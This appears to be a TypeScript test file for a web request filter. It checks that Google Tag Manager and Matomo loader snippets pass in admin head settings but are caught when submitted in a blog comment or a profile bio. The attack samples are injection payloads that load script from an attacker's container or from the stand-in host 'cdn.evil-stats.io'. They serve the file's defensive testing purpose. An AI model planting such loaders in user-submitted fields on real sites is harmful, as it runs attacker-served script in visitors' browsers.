/**
 * Session 33 (lead): a vendor's tag loader is taken out of a value only where it is a site's code setting
 * (tag-snippets.ts isSiteCodeSetting: an admin route, or a field named for page code). In a blog comment or a
 * profile's bio the same loader is the attacker's script: a GTM container, a self-hosted Matomo address, runs
 * whatever its owner serves. On main 66ba393 a GTM snippet naming the attacker's container passed in a comment
 * (score 0), and so did a Matomo snippet pointing at the attacker's host.
 */
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const form = (path: string, pairs: (v: string) => [string, string][]): Carrier => (v) => ({
  method: 'POST',
  path,
  query: '',
  headers: { Host: 'blog.example.org', 'Content-Type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams(pairs(v)).toString(),
});
const json = (method: string, path: string, make: (v: string) => unknown): Carrier => (v) => ({
  method,
  path,
  query: '',
  headers: { Host: 'blog.example.org', 'Content-Type': 'application/json' },
  body: JSON.stringify(make(v)),
});

const CARRIERS: Record<string, Carrier> = {
  'wp header': form('/wp-admin/options-general.php', (v) => [['ihaf_insert_header', v], ['_wpnonce', '2a2eba75f6'], ['submit', 'Save']]),
  'site settings head': json('PUT', '/settings/v1/site-settings', (v) => ({ headHtml: v })),
  comment: form('/blog/2026/12/release-notes/comments', (v) => [['author', 'Ana'], ['comment', v]]),
  'profile bio': json('PATCH', '/api/users/me', (v) => ({ displayName: 'Ana', bio: v })),
};

const GTM = (id: string) =>
  "<!-- Google Tag Manager -->\n<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':\nnew Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],\nj=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=\n'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);\n})(window,document,'script','dataLayer','" +
  id +
  "');</script>\n<!-- End Google Tag Manager -->";
const MATOMO = (host: string) =>
  `<script>var _paq=window._paq=window._paq||[];_paq.push(["trackPageView"]);_paq.push(["enableLinkTracking"]);(function(){var u="https://${host}/";_paq.push(["setTrackerUrl",u+"matomo.php"]);_paq.push(["setSiteId","1"]);var d=document,g=d.createElement("script"),s=d.getElementsByTagName("script")[0];g.async=true;g.src=u+"matomo.js";s.parentNode.insertBefore(g,s);})();</script>`;

const BENIGN: [string, string][] = [];
for (const c of ['wp header', 'site settings head']) for (const v of [GTM('GTM-K7Q2ZP4'), MATOMO('stats.blog.example.org')]) BENIGN.push([c, v]);

const ATTACKS: [string, string][] = [];
for (const c of ['comment', 'profile bio']) for (const v of [GTM('GTM-W4X9QZ1'), MATOMO('cdn.evil-stats.io')]) ATTACKS.push([c, v]);

testCarriers('a vendor tag loader outside a site code setting (lead, session 33)', 'passes in a head setting on an admin route or a page-code field', CARRIERS, BENIGN, ATTACKS);
